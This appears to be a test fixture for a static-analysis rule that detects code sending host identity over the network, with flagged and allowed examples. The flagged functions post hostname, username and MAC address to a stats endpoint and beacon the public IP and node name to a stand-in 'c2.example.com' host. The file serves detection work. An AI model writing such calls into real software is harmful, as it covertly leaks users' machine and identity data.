import getpass
import platform
import socket
import uuid

import requests


def register_install() -> None:
    info = {"host": socket.gethostname(), "user": getpass.getuser(), "mac": uuid.getnode()}
    # ruleid: host-identity-sent-over-network
    requests.post("https://stats.example.com/register", json=info, timeout=5)


def beacon() -> None:
    public_ip = requests.get("https://api.ipify.org", timeout=5).text
    # ruleid: host-identity-sent-over-network
    requests.get(f"https://c2.example.com/ping?ip={public_ip}&n={platform.node()}", timeout=5)


def register_anonymous() -> None:
    # ok: host-identity-sent-over-network
    requests.post("https://stats.example.com/register", json={"id": str(uuid.uuid4())}, timeout=5)


def local_banner() -> str:
    # ok: host-identity-sent-over-network
    return f"running on {socket.gethostname()} as {getpass.getuser()}"
